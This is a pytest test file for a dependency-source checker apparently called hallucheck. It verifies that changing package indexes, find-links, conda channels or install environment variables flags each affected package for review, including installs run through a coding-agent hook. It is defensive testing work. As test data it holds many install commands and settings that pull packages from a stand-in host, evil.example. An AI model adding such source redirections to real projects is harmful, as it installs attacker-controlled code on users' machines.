"""A change of source is a change of package: every manifest family's way of choosing an index, an extra index,
find-links or a per-name source moves the names it applies to, and each moved name is reviewed (HC004) with
the source in its message; an approval covers exactly the source it was reviewed from.

Through real git repositories; the property runs over (manifest family x source option x name approved /
declared / new).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hallucheck.manifests.sources import INDEX, covers, source, split_options
from tests.conftest import Repo

EVIL = "https://evil.example/simple"
TORCH = "https://download.pytorch.org/whl/cpu"
PROJECT = '[project]\nname = "demo"\nversion = "0.1"\ndependencies = []\n'

Manifest = Callable[[list[str], str | None], dict[str, Any]]
"""(names, source URL or None) -> files."""


def _requirements(option: str) -> Manifest:
    def files(names: list[str], url: str | None) -> dict[str, str]:
        lines = [*names, *([f"{option} {url}"] if url else [])]
        return {"pyproject.toml": PROJECT, "requirements.txt": "".join(f"{line}\n" for line in lines)}

    return files


def _included(names: list[str], url: str | None) -> dict[str, str]:
    """The option in a file the requirements file includes: it applies to the whole install."""
    return {"pyproject.toml": PROJECT, "requirements.txt": "-r base.txt\n" + "".join(f"{n}\n" for n in names),
            "base.txt": f"--extra-index-url {url}\n" if url else "# base\n"}  # fmt: skip


def _constraints(names: list[str], url: str | None) -> dict[str, str]:
    return {"pyproject.toml": PROJECT, "requirements.txt": "-c constraints.txt\n" + "".join(f"{n}\n" for n in names),
            "constraints.txt": f"--index-url {url}\n" if url else "# pins\n"}  # fmt: skip


def _pyproject(tail: Callable[[list[str], str], str]) -> Manifest:
    def files(names: list[str], url: str | None) -> dict[str, str]:
        text = f'[project]\nname = "demo"\nversion = "0.1"\ndependencies = {json.dumps(names)}\n'
        return {"pyproject.toml": text + (tail(names, url) if url else "")}

    return files


def _uv_sources(names: list[str], url: str) -> str:
    pinned = "".join(f'{name} = {{ index = "private" }}\n' for name in names)
    return f'\n[[tool.uv.index]]\nname = "private"\nurl = "{url}"\nexplicit = true\n\n[tool.uv.sources]\n{pinned}'


def _poetry(per_name: bool) -> Manifest:
    def files(names: list[str], url: str | None) -> dict[str, str]:
        spec = '{ version = "*", source = "private" }' if per_name and url else '"*"'
        deps = "".join(f"{name} = {spec}\n" for name in names)
        priority = "explicit" if per_name else "supplemental"
        sources = f'\n[[tool.poetry.source]]\nname = "private"\nurl = "{url}"\npriority = "{priority}"\n' if url else ""
        text = f'[tool.poetry]\nname = "demo"\nversion = "0.1"\n\n[tool.poetry.dependencies]\npython = "^3.10"\n{deps}'
        return {"pyproject.toml": text + sources}

    return files


def _pipfile(per_name: bool) -> Manifest:
    def files(names: list[str], url: str | None) -> dict[str, str]:
        spec = '{ version = "*", index = "private" }' if per_name and url else '"*"'
        head = '[[source]]\nurl = "https://pypi.org/simple"\nname = "pypi"\n'
        extra = f'\n[[source]]\nurl = "{url}"\nname = "private"\n' if url else ""
        packages = "".join(f"{name} = {spec}\n" for name in names)
        return {"pyproject.toml": PROJECT, "Pipfile": f"{head}{extra}\n[packages]\n{packages}"}

    return files


def _conda(names: list[str], url: str | None) -> dict[str, str]:
    option = [f"--extra-index-url {url}"] if url else []
    items = "".join(f"    - {item}\n" for item in [*option, *names])
    return {"pyproject.toml": PROJECT, "environment.yml": f"name: x\ndependencies:\n  - python\n  - pip:\n{items}"}


FAMILIES: dict[str, Manifest] = {
    "requirements -i": _requirements("-i"),
    "requirements --index-url": _requirements("--index-url"),
    "requirements --extra-index-url": _requirements("--extra-index-url"),
    "requirements --find-links": _requirements("--find-links"),
    "requirements -f": _requirements("-f"),
    "requirements -r include": _included,
    "requirements -c constraints": _constraints,
    "uv index-url": _pyproject(lambda names, url: f'\n[tool.uv]\nindex-url = "{url}"\n'),
    "uv extra-index-url": _pyproject(lambda names, url: f'\n[tool.uv]\nextra-index-url = ["{url}"]\n'),
    "uv find-links": _pyproject(lambda names, url: f'\n[tool.uv]\nfind-links = ["{url}"]\n'),
    "uv [[tool.uv.index]]": _pyproject(lambda names, url: f'\n[[tool.uv.index]]\nname = "x"\nurl = "{url}"\n'),
    "uv sources index": _pyproject(_uv_sources),
    "poetry source": _poetry(per_name=False),
    "poetry per-name source": _poetry(per_name=True),
    "pdm source": _pyproject(lambda names, url: f'\n[[tool.pdm.source]]\nname = "x"\nurl = "{url}"\n'),
    "pipfile source": _pipfile(per_name=False),
    "pipfile per-name index": _pipfile(per_name=True),
    "conda pip section": _conda,
}


def _approval(name: str, requirement: str) -> str:
    return f"\n[tool.hallucheck.approved]\n{name} = {json.dumps(requirement)}\n"


def _with_approval(files: dict[str, Any], name: str, requirement: str) -> dict[str, Any]:
    pyproject = files.get("pyproject.toml", PROJECT)
    return {**files, "pyproject.toml": pyproject + _approval(name, requirement)}


def _hc004(outcome: Any) -> dict[str, str]:
    return {item["distribution"]: item["message"] for item in outcome.json()["findings"] if item["code"] == "HC004"}


@pytest.mark.parametrize("family", FAMILIES)
def test_a_new_source_moves_every_declared_name(repo: Repo, run: Any, family: str) -> None:
    """A11: the names stay, the source changes: each name is a package to review, named with the source."""
    manifest = FAMILIES[family]
    repo.commit(manifest(["requests", "attrs"], None), "base")
    repo.stage(manifest(["requests", "attrs"], EVIL))
    outcome = run()
    assert outcome.code == 1, outcome.out
    reviewed = _hc004(outcome)
    assert set(reviewed) == {"requests", "attrs"}, outcome.out
    assert all("evil.example" in message for message in reviewed.values()), reviewed


@pytest.mark.parametrize("family", FAMILIES)
def test_a_source_already_in_the_base_moves_nothing(repo: Repo, run: Any, family: str) -> None:
    manifest = FAMILIES[family]
    repo.commit(manifest(["requests", "attrs"], TORCH), "base")
    files = manifest(["requests", "attrs"], TORCH)
    repo.stage({**files, "demo.py": "import requests\n"})
    assert run().code == 0
    assert run("--all-files").code == 0  # files mode: a committed source is no finding


@pytest.mark.parametrize("family", FAMILIES)
def test_an_approval_from_the_index_does_not_cover_another_source(repo: Repo, run: Any, family: str) -> None:
    manifest = FAMILIES[family]
    repo.commit(_with_approval(manifest(["requests"], None), "fakepkg-zz", "fakepkg-zz"), "base")
    repo.stage(_with_approval(manifest(["requests", "fakepkg-zz"], EVIL), "fakepkg-zz", "fakepkg-zz"))
    outcome = run()
    reviewed = _hc004(outcome)
    assert "fakepkg-zz" in reviewed and "another source is another package to review" in reviewed["fakepkg-zz"]


@pytest.mark.parametrize("family", FAMILIES)
def test_approving_the_moved_names_records_their_source(
    repo: Repo, run: Any, family: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Following the hint once (`hallucheck approve --all-added`) reaches a passing commit, and the approval
    records the source: the same names from the index again are another review."""
    manifest = FAMILIES[family]
    repo.commit(manifest(["requests"], None), "base")
    repo.stage(manifest(["requests", "fakepkg-zz"], EVIL))
    approved = repo.check("approve", "--all-added", json_output=False, capsys=capsys)
    assert approved.code == 0, approved.out + approved.err
    repo.git("add", "-A")
    assert run().code == 0, run(json_output=False).out
    text = (repo.root / "pyproject.toml").read_text()
    assert "evil.example" in text, text


def test_the_a11_reproduction(repo: Repo, run: Any) -> None:
    """ATTACK.md A11, as written there."""
    repo.commit({"pyproject.toml": PROJECT + _approval("fakepkg-zz", "fakepkg-zz"), "requirements.txt": "requests\n"})
    repo.stage({"requirements.txt": "requests\n-i https://evil.example/simple\nfakepkg-zz\n"})
    outcome = run()
    assert outcome.code == 1 and set(_hc004(outcome)) == {"requests", "fakepkg-zz"}, outcome.out
    repo.stage({"requirements.txt": "--extra-index-url https://evil.example/simple\nrequests\n"})
    outcome = run()
    assert outcome.code == 1 and set(_hc004(outcome)) == {"requests"}, outcome.out


def test_a_name_moved_by_an_included_file_is_reported_at_the_option(repo: Repo, run: Any) -> None:
    """The including file did not change: the finding is where the change wrote the source (one comment there
    suppresses it)."""
    repo.commit({"pyproject.toml": PROJECT, "requirements.txt": "-r base.txt\nrequests\n", "base.txt": "attrs\n"})
    repo.stage({"base.txt": f"attrs\n--extra-index-url {EVIL}\n"})
    findings = [item for item in run().json()["findings"] if item["code"] == "HC004"]
    assert {(item["distribution"], item["path"], item["line"]) for item in findings} == {
        ("requests", "base.txt", 2), ("attrs", "base.txt", 1)}


def test_the_default_index_written_out_moves_nothing(repo: Repo, run: Any) -> None:
    repo.commit({"pyproject.toml": PROJECT, "requirements.txt": "requests\n"})
    repo.stage({"requirements.txt": "-i https://pypi.org/simple/\nrequests\n"})
    assert run().code == 0


def test_credentials_in_an_index_url_are_not_repeated(repo: Repo, run: Any) -> None:
    repo.commit({"pyproject.toml": PROJECT, "requirements.txt": "requests\n"})
    repo.stage({"requirements.txt": "--extra-index-url https://user:s3cret@host.example/simple\nrequests\n"})
    outcome = run()
    assert outcome.code == 1 and "s3cret" not in outcome.out and "https://***@host.example/simple" in outcome.out


def test_conda_channels_move_conda_names_only(repo: Repo, run: Any) -> None:
    base = "name: x\nchannels:\n  - conda-forge\ndependencies:\n  - numpy\n  - pip:\n    - requests\n"
    repo.commit({"pyproject.toml": PROJECT, "environment.yml": base})
    repo.stage({"environment.yml": base.replace("  - conda-forge\n", "  - conda-forge\n  - evilchan\n")})
    assert set(_hc004(run())) == {"numpy"}
    repo.stage({"environment.yml": base.replace("    - requests", f"    - --extra-index-url {EVIL}\n    - requests")})
    assert set(_hc004(run())) == {"requests"}


def test_uv_git_and_url_sources_are_direct_references(repo: Repo, run: Any) -> None:
    text = '[project]\nname = "demo"\nversion = "0.1"\ndependencies = ["requests", "attrs"]\n'
    repo.commit({"pyproject.toml": text})
    repo.stage({"pyproject.toml": text + '\n[tool.uv.sources]\nrequests = { git = "https://github.com/x/requests", '
                'tag = "v1" }\nattrs = { url = "https://host.example/attrs-1.0-py3-none-any.whl" }\n'})
    reviewed = _hc004(run())
    assert set(reviewed) == {"requests", "attrs"}
    assert "git+https://github.com/x/requests@v1" in reviewed["requests"]


# --- the notation -----------------------------------------------------------------------------------------------

_URLS = st.from_regex(r"https://[a-z]{1,8}\.example/[a-z/]{0,12}", fullmatch=True)
_OPTIONS = st.sampled_from(["--index-url", "--extra-index-url", "--find-links", "--trusted-host", "--index"])


@given(options=st.lists(st.tuples(_OPTIONS, _URLS), min_size=1, max_size=3), order=st.randoms())
@settings(suppress_health_check=[HealthCheck.too_slow])
def test_source_options_are_a_set(options: list[tuple[str, str]], order: Any) -> None:
    written = [f"{option} {url}" for option, url in options]
    shuffled = list(written)
    order.shuffle(shuffled)
    assert source("x " + " ".join(written)) == source("x>=1 " + " ".join(shuffled)) != INDEX
    assert not covers("x", "x " + " ".join(written)) and not covers("x " + " ".join(written), "x")
    assert split_options("x==1 " + " ".join(written))[0] == "x==1"


def test_a_direct_reference_ignores_the_indexes() -> None:
    assert source(f"x @ https://host/x.whl --index-url {EVIL}") == "https://host/x.whl"


# --- install commands: in files and in the agent hook ------------------------------------------------------------

MOVED_COMMANDS = {
    "--index-url": f"pip install --index-url {EVIL} requests",
    "-i": f"pip install -i {EVIL} requests",
    "-i attached": f"pip install -i{EVIL} requests",
    "--extra-index-url": f"python -m pip install --extra-index-url={EVIL} requests",
    "--find-links": "pip install --find-links https://evil.example/wheels requests",
    "-f": "pip3 install -f https://evil.example/wheels requests",
    "--trusted-host": "pip install --trusted-host evil.example requests",
    "uv --index": f"uv pip install --index {EVIL} requests",
    "uv --default-index": f"uv pip install --default-index {EVIL} requests",
    "uv add --index": f"uv add --index {EVIL} requests",
    "name @ url": "pip install 'requests @ https://evil.example/requests-2.0-py3-none-any.whl'",
    "bare wheel url": "pip install https://evil.example/requests-2.0-py3-none-any.whl",
    "git+https": "pip install git+https://github.com/evil/requests",
    "-e git+https#egg": "pip install -e git+https://github.com/evil/x#egg=requests",
    "local wheel": "pip install ./wheels/requests-2.0-py3-none-any.whl",
    "local sdist": "pip install dist/requests-2.0.tar.gz",
    "poetry add --source": "poetry add --source private requests",
    "conda -c": "conda install -c evilchan rich",
}
PASSING_COMMANDS = {
    "declared, from the index": "pip install requests",
    "the default index written out": "pip install -i https://pypi.org/simple requests",
    "a local directory": "pip install -e .",
    "constraints are no source": "pip install -c constraints.txt requests",
    "conda-forge": "conda install -c conda-forge rich",
}
HOOK_BASE = '[project]\nname = "myapp"\nversion = "1"\ndependencies = ["requests", "rich"]\n'


def _hook(payload: dict[str, Any], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> str:
    from tests.test_install_check_git import answer

    return answer(payload, monkeypatch, capsys)


@pytest.mark.parametrize(("case", "shape"), [(case, shape) for case in MOVED_COMMANDS
                                              for shape in ("claude", "codex", "cursor")])
def test_the_hook_asks_about_a_declared_name_from_another_source(
    repo: Repo, case: str, shape: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from tests.test_install_check_git import SHAPES

    repo.commit({"pyproject.toml": HOOK_BASE})
    monkeypatch.setenv("PIP_CONFIG_FILE", "/dev/null")
    assert _hook(SHAPES[shape](MOVED_COMMANDS[case], repo.root), monkeypatch, capsys) == "ask"


@pytest.mark.parametrize("case", PASSING_COMMANDS)
def test_the_hook_runs_a_declared_name_from_its_declared_source(
    repo: Repo, case: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from tests.test_install_check_git import claude

    repo.commit({"pyproject.toml": HOOK_BASE, "constraints.txt": "requests<3\n"})  # read from disk: committed
    assert _hook(claude(PASSING_COMMANDS[case], repo.root), monkeypatch, capsys) == "run"


@pytest.mark.parametrize(("declared", "command"), [
    (f"--extra-index-url {TORCH}\ntorch\n", f"pip install torch --extra-index-url {TORCH}"),
    (f"--extra-index-url {TORCH}\ntorch\n", f"pip install torchvision --extra-index-url {TORCH}"),  # same index
    ("requests @ https://host.example/requests-2.0-py3-none-any.whl\n",
     "pip install 'requests @ https://host.example/requests-2.0-py3-none-any.whl'"),
])
def test_a_source_the_project_already_uses_runs(
    repo: Repo, declared: str, command: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from tests.test_install_check_git import claude

    repo.commit({"pyproject.toml": HOOK_BASE, "requirements.txt": declared})
    assert _hook(claude(command, repo.root), monkeypatch, capsys) == "run"


def test_an_approval_of_the_source_lets_the_hook_run(
    repo: Repo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from tests.test_install_check_git import claude

    command = f"pip install --index-url {EVIL} requests"
    repo.commit({"pyproject.toml": HOOK_BASE + _approval("requests", f"requests --index-url {EVIL}")})
    assert _hook(claude(command, repo.root), monkeypatch, capsys) == "run"
    assert _hook(claude(f"pip install --extra-index-url {EVIL} requests", repo.root), monkeypatch, capsys) == "ask"


@pytest.mark.parametrize("case", MOVED_COMMANDS)
def test_an_added_install_command_from_another_source_is_reviewed(repo: Repo, run: Any, case: str) -> None:
    """The same commands written into a Dockerfile a change adds; committed, files mode shows none of them."""
    repo.commit({"pyproject.toml": HOOK_BASE})
    repo.stage({"Dockerfile": f"FROM python:3.12\nRUN {MOVED_COMMANDS[case]}\n"})
    outcome = run()
    assert outcome.code == 1 and "HC040" in outcome.codes(), outcome.out
    repo.commit(message="docker")
    outcome = run("--all-files")
    assert outcome.code == 0 and "HC040" not in outcome.codes(), outcome.out


def test_a_committed_pytorch_index_in_ci_is_no_finding(repo: Repo, run: Any) -> None:
    workflow = ("on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
                f"      - run: pip install torch torchvision --extra-index-url {TORCH}\n")  # fmt: skip
    repo.commit({"pyproject.toml": HOOK_BASE.replace('"rich"', '"rich", "torch"'), ".github/workflows/ci.yml": workflow,
                 "Dockerfile": f"FROM python:3.12\nRUN pip install --index-url {TORCH} torch\n"})  # fmt: skip
    outcome = run("--all-files")
    assert outcome.code == 0 and outcome.codes() == [], outcome.out


# --- sources set outside the manifests (HC043) --------------------------------------------------------------------

SETTINGS = {
    "pip.conf index-url": ("pip.conf", "[global]\ntimeout = 5\n", f"[global]\ntimeout = 5\nindex-url = {EVIL}\n"),
    "pip.ini extra-index-url (continued)": ("pip.ini", "[global]\n",
                                            f"[global]\nextra-index-url =\n    {TORCH}\n    {EVIL}\n"),
    "pip.conf trusted-host": ("config/pip.conf", "[install]\n", "[install]\ntrusted-host = evil.example\n"),
    "uv.toml index-url": ("uv.toml", "", f'index-url = "{EVIL}"\n'),
    "uv.toml [[index]]": ("uv.toml", "", f'[[index]]\nname = "e"\nurl = "{EVIL}"\n'),
    "uv.toml [pip] extra": ("uv.toml", "[pip]\n", f'[pip]\nextra-index-url = [\n  "{EVIL}",\n]\n'),
    "workflow env": (".github/workflows/ci.yml", "on: push\n",
                     f"on: push\nenv:\n  PIP_INDEX_URL: {EVIL}\njobs: {{}}\n"),
    "workflow step env": (".github/workflows/ci.yml", "on: push\n",
                          "on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n      - run: pip install -r r.txt\n"
                          f"        env:\n          PIP_EXTRA_INDEX_URL: \"{EVIL}\"\n"),
    "Dockerfile ENV": ("Dockerfile", "FROM python:3.12\n", f"FROM python:3.12\nENV UV_INDEX_URL={EVIL}\n"),
    "Dockerfile ENV, space form": ("Dockerfile", "FROM python:3.12\n", f"FROM python:3.12\nENV UV_INDEX {EVIL}\n"),
    "Dockerfile ARG": ("Dockerfile", "FROM python:3.12\n", f"FROM python:3.12\nARG PIP_INDEX_URL={EVIL}\n"),
    "tox setenv": ("tox.ini", "[testenv]\ncommands = pytest\n",
                   f"[testenv]\nsetenv =\n    PIP_EXTRA_INDEX_URL = {EVIL}\ncommands = pytest\n"),
    "shell export": ("scripts/setup.sh", "#!/bin/sh\n", f"#!/bin/sh\nexport UV_DEFAULT_INDEX=\"{EVIL}\"\n"),
    "from a secret": (".github/workflows/ci.yml", "on: push\n",
                      "on: push\nenv:\n  PIP_INDEX_URL: ${{ secrets.INDEX }}\njobs: {}\n"),
    "agent settings env": (".claude/settings.json", '{"hooks": {}}\n',
                           f'{{"env": {{"PIP_INDEX_URL": "{EVIL}"}}, "hooks": {{}}}}\n'),
    "devcontainer containerEnv": (".devcontainer/devcontainer.json", '{"postCreateCommand": "pip install -e ."}\n',
                                  f'{{"containerEnv": {{"UV_DEFAULT_INDEX": "{EVIL}"}},\n'
                                  ' "postCreateCommand": "pip install -e ."}\n'),
    "[tool.uv.pip] index-url": ("pyproject.toml", HOOK_BASE, f'{HOOK_BASE}\n[tool.uv.pip]\nindex-url = "{EVIL}"\n'),
    "[tool.uv] pip inline table": ("pyproject.toml", HOOK_BASE,
                                   f'{HOOK_BASE}\n[tool.uv]\npip = {{ find-links = ["{EVIL}"] }}\n'),
    "[tool.uv] override URL": ("pyproject.toml", HOOK_BASE, f'{HOOK_BASE}\n[tool.uv]\noverride-dependencies = [\n'
                               '  "requests @ https://evil.example/requests-9.whl",\n]\n'),
    "[tool.uv] constraint URL, undeclared": ("pyproject.toml", HOOK_BASE, f'{HOOK_BASE}\n[tool.uv]\n'
                                             'constraint-dependencies = ["urllib3 @ git+https://evil.example/u"]\n'),
    "uv.toml override URL": ("uv.toml", "", 'override-dependencies = ["rich @ https://evil.example/rich.whl"]\n'),
    "pixi.toml [pypi-options]": ("pixi.toml", '[workspace]\nname = "x"\nchannels = ["conda-forge"]\n',
                                 '[workspace]\nname = "x"\nchannels = ["conda-forge"]\n'
                                 f'[pypi-options]\nextra-index-urls = ["{EVIL}"]\n'),
    "pixi.toml channel": ("pixi.toml", '[workspace]\nname = "x"\nchannels = ["conda-forge"]\n',
                          '[workspace]\nname = "x"\nchannels = ["conda-forge", "https://evil.example/conda"]\n'),
    ".condarc channel": (".condarc", "channels:\n  - conda-forge\n", f"channels:\n  - conda-forge\n  - {EVIL}\n"),
    ".condarc custom channel": (".condarc", "", "channel_alias: https://conda.anaconda.org\ncustom_channels:\n"
                                f"  internal: {EVIL}\n"),
    "[tool.pixi.feature.t.pypi-options]": ("pyproject.toml", HOOK_BASE, f"{HOOK_BASE}\n[tool.pixi.feature.t]\n"
                                           f'pypi-options = {{ find-links = [{{ url = "{EVIL}" }}] }}\n'),
}


@pytest.mark.parametrize("case", SETTINGS)
def test_a_source_set_outside_the_manifests_is_reviewed(repo: Repo, run: Any, case: str) -> None:
    path, before, after = SETTINGS[case]
    repo.commit({"pyproject.toml": HOOK_BASE, path: before})
    repo.stage({path: after})
    outcome = run()
    assert outcome.code == 1 and "HC043" in outcome.codes(), outcome.out
    # Committed, it is the project's own choice: files mode and an unrelated later change see nothing.
    repo.commit(message="source")
    assert "HC043" not in run("--all-files").codes()
    repo.stage({path: after + ("\n" if path.endswith((".conf", ".ini", ".toml")) else "# more\n")})
    assert "HC043" not in run().codes()


@pytest.mark.parametrize("table", [
    '[tool.uv]\noverride-dependencies = ["requests>=2"]\nconstraint-dependencies = ["rich<14"]\n',
    '[tool.uv.pip]\nindex-url = "https://pypi.org/simple"\n',
    '[tool.pixi.workspace]\nchannels = ["conda-forge", "nodefaults"]\n',
])
def test_a_setting_that_moves_no_package_is_not_reviewed(repo: Repo, run: Any, table: str) -> None:
    """A version pin, the default index and conda's standard channels choose no other source."""
    repo.commit({"pyproject.toml": HOOK_BASE})
    repo.stage({"pyproject.toml": f"{HOOK_BASE}\n{table}"})
    outcome = run()
    assert outcome.code == 0 and outcome.codes() == [], outcome.out


def test_a_condarc_with_conda_s_own_channels_is_not_reviewed(repo: Repo, run: Any) -> None:
    repo.commit({"pyproject.toml": HOOK_BASE})
    repo.stage({".condarc": "channels:\n  - conda-forge\n  - defaults\n  - nodefaults\n"
                            "channel_alias: https://conda.anaconda.org/\nchannel_priority: strict\n"})
    outcome = run()
    assert outcome.code == 0 and outcome.codes() == [], outcome.out


def test_condarc_settings_are_placed() -> None:
    from hallucheck.manifests.source_settings import file_source_settings

    text = (f"channels: [conda-forge, {EVIL}]\ndefault_channels:\n  - https://repo.anaconda.com/pkgs/main\n"
            "  - https://mirror.example/main\ncustom_multichannels:\n  mine: [https://u:t@a.example/x]\n")
    found = [(item.line, item.setting, item.value) for item, _ in file_source_settings("env/.condarc", text)]
    assert found == [(1, "channels", EVIL), (4, "default_channels", "https://mirror.example/main"),
                     (6, "custom_multichannels", "mine=https://***@a.example/x")]
    assert file_source_settings(".condarc", "channels: [\n") == []  # not YAML: conda refuses it too


def test_toml_source_settings_are_placed_and_say_where() -> None:
    from hallucheck.manifests.source_settings import toml_source_settings

    text = (f'{HOOK_BASE}[tool.uv]\nconstraint-dependencies = ["rich<14", "requests @ https://u:t@h.example/r.whl '
            f'; python_version < \'3.12\'"]\n[tool.uv.pip]\nextra-index-url = ["{TORCH}", "{EVIL}"]\n')
    found = [(item.line, item.setting, item.value, where)
             for item, where in toml_source_settings("a/pyproject.toml", text)]
    assert found == [(6, "constraint-dependencies", "https://***@h.example/r.whl", "[tool.uv], for `requests`"),
                     (8, "extra-index-url", TORCH, "[tool.uv.pip]"), (8, "extra-index-url", EVIL, "[tool.uv.pip]")]
    assert toml_source_settings("pyproject.toml", "[tool.uv.pip\nindex-url = 'x'") == []  # not TOML: not read
    assert toml_source_settings("setup.cfg", f"[tool.uv.pip]\nindex-url = '{EVIL}'") == []


def test_a_confirmed_source_passes_with_the_relaxation_shown(repo: Repo, run: Any) -> None:
    """pip.conf and Dockerfile ENV take no comment after a value: the directive goes on the line above."""
    repo.commit({"pyproject.toml": HOOK_BASE, "Dockerfile": "FROM python:3.12\n"})
    repo.stage({"pip.conf": f"[global]\n# hallucheck: ignore[HC043]\nindex-url = {EVIL}\n",
                "Dockerfile": f"FROM python:3.12\n# hallucheck: ignore[HC043]\nENV PIP_INDEX_URL={EVIL}\n"})
    outcome = run()
    assert outcome.code == 0 and outcome.codes() == ["HC101", "HC101"], outcome.out


def test_a_directive_above_a_changed_setting_is_added_by_the_change(repo: Repo, run: Any) -> None:
    """Attack E28: a line-above directive committed for the project's private index does not confirm the index
    the change puts on the line below it: it counts as there before only while that line is unchanged. Staged,
    it is an HC101; with the base's policy it hides nothing."""
    private = "https://pkgs.example.com/simple"
    repo.commit({"pyproject.toml": HOOK_BASE,
                 "pip.conf": f"[global]\n# hallucheck: ignore\nindex-url = {private}\n",
                 "Dockerfile": f"FROM python:3.12\n# hallucheck: ignore[HC043]\nENV PIP_INDEX_URL={private}\nRUN x\n"})
    repo.stage({"Dockerfile": f"FROM python:3.12\n# hallucheck: ignore[HC043]\nENV PIP_INDEX_URL={private}\nRUN y\n"})
    assert run().codes() == []  # the line it covers is unchanged: the directive was there before
    repo.stage({"pip.conf": f"[global]\n# hallucheck: ignore\nindex-url = {EVIL}\n",
                "Dockerfile": f"FROM python:3.12\n# hallucheck: ignore[HC043]\nENV PIP_INDEX_URL={EVIL}\nRUN y\n"})
    outcome = run()
    assert outcome.code == 0 and outcome.codes() == ["HC101", "HC101"], outcome.out
    repo.commit(message="evil")
    outcome = run("--from-ref", "HEAD~1", "--policy-from-base")
    assert outcome.code == 1 and outcome.codes() == ["HC043", "HC043"], outcome.out


@pytest.mark.parametrize(("path", "base", "changed", "channel"), [
    ("environment.yml", "name: x\ndependencies:\n  - requests\n", "name: x\ndependencies:\n  - evilchan::requests\n",
     "evilchan"),
    ("environment.yml", "name: x\ndependencies:\n  - requests\n",
     "name: x\ndependencies:\n  - https://evil.example/conda::requests=2\n", "https://evil.example/conda"),
    ("pixi.toml", '[workspace]\nname = "x"\nchannels = ["conda-forge"]\nplatforms = ["linux-64"]\n'
     '[dependencies]\nrequests = "*"\n', '[workspace]\nname = "x"\nchannels = ["conda-forge"]\n'
     'platforms = ["linux-64"]\n[dependencies]\nrequests = { version = "*", channel = "evilchan" }\n', "evilchan"),
])
def test_a_channel_named_for_one_conda_package_is_its_source(repo: Repo, run: Any, path: str, base: str,
                                                              changed: str, channel: str) -> None:
    """Attack E26: conda's ``CHANNEL::name`` and pixi's ``channel = "..."`` move that package as ``channels:``
    moves every package: HC004 with the channel; conda's standard channels move nothing."""
    repo.commit({"pyproject.toml": PROJECT, path: base})
    repo.stage({path: changed})
    outcome = run()
    assert outcome.codes() == ["HC004"], outcome.out
    assert f"--channel {channel}" in outcome.json()["findings"][0]["message"]
    repo.stage({path: changed.replace(channel, "conda-forge")})
    assert run().codes() == [], outcome.out


def test_settings_are_read_with_their_lines() -> None:
    from hallucheck.sources.index_settings import config_settings, environment_settings

    pip = config_settings(f"[global]\nindex-url = https://user:tok@host.example/simple\nextra-index-url =\n"
                          f"    {TORCH}\n    {EVIL}\ntimeout = 5\n    https://not.a.setting\n")
    assert [(item.line, item.setting, item.value) for item in pip] == [
        (2, "index-url", "https://***@host.example/simple"), (4, "extra-index-url", TORCH),
        (5, "extra-index-url", EVIL)]
    found = environment_settings(f"ENV A=1 PIP_INDEX_URL={EVIL} B=2\nrun: PIP_INDEX_URL_X=1 pip install x\n")
    assert [(item.line, item.setting, item.value) for item in found] == [(1, "PIP_INDEX_URL", EVIL)]


# Python code: a variable is set through os.environ, not by its name inside other text (tox fd4931a36b) ----------

TOX_TEST_BASE = '''def test_install(project):
    """It installs with pip."""
    result = project.run("r", "-e", "py")
    assert result.calls == [["python", "-I", "-m", "pip", "install", "--no-deps", "-r", "req.txt"]]
'''
TOX_TEST_ADDED = '''

def test_reinstall_on_env_change(project, base):
    (project.path / "tox.toml").write_text(
        f'{base}set_env = {{ PIP_INDEX_URL = "https://mirror.invalid/simple" }}\\n'
    )
    assert project.run("r", "-e", "py").success
'''


def test_a_variable_named_in_a_python_string_is_not_a_source_set(repo: Repo, run: Any) -> None:
    """tox fd4931a36b: a test that writes a tox.toml setting PIP_INDEX_URL sets nothing itself. The file is read
    for installs at all only because it runs something and names pip (a bare .py with the string is not)."""
    repo.commit({"pyproject.toml": HOOK_BASE, "tests/test_pylock.py": TOX_TEST_BASE})
    repo.stage({"tests/test_pylock.py": TOX_TEST_BASE + TOX_TEST_ADDED})
    outcome = run()
    assert outcome.code == 0 and outcome.codes() == [], outcome.out
    repo.commit(message="test")
    assert run("--from-ref", "HEAD~1", "--to-ref", "HEAD").codes() == []


CODE_SETTINGS = {
    "os.environ[...] =": f'os.environ["PIP_INDEX_URL"] = "{EVIL}"\n',
    "setdefault": f'os.environ.setdefault("UV_INDEX_URL", "{EVIL}")\n',
    "update keyword": f'os.environ.update(PIP_EXTRA_INDEX_URL="{EVIL}")\n',
    "env= dict entry": f'ENV = {{**os.environ, "PIP_INDEX_URL": "{EVIL}"}}\n',
    "putenv, computed": 'os.putenv("PIP_FIND_LINKS", MIRROR + "/wheels")\n',
}


@pytest.mark.parametrize("case", CODE_SETTINGS)
def test_a_source_python_code_sets_for_its_installs_is_reviewed(repo: Repo, run: Any, case: str) -> None:
    base = 'import os\nimport subprocess\n\nMIRROR = "x"\n'
    call = 'subprocess.run(["pip", "install", "requests"], check=True)\n'
    repo.commit({"pyproject.toml": HOOK_BASE, "tools/setup_env.py": base + call})
    repo.stage({"tools/setup_env.py": base + CODE_SETTINGS[case] + call})
    outcome = run()
    assert outcome.code == 1 and outcome.codes() == ["HC043"], outcome.out
    assert [(item["path"], item["line"]) for item in outcome.json()["findings"]] == [("tools/setup_env.py", 5)]


def test_python_settings_are_read_from_the_code() -> None:
    from hallucheck.sources.index_settings import code_environment_settings

    code = (f'import os\nos.environ["PIP_INDEX_URL"] = "https://u:t@h.example/simple"\n'
            f'text = "PIP_INDEX_URL = {EVIL}"\nmonkeypatch.setenv("PIP_INDEX_URL", "{EVIL}")\n'
            f'run(cmd, env=dict(UV_DEFAULT_INDEX=url))\nos.environ["PIP_INDEX_URL_X"] = "1"\n')
    found = [(item.line, item.setting, item.value) for item in code_environment_settings(code)]
    assert found == [(2, "PIP_INDEX_URL", "https://***@h.example/simple"), (5, "UV_DEFAULT_INDEX", "url")]
    assert [item.line for item in code_environment_settings(code, {5})] == [5]


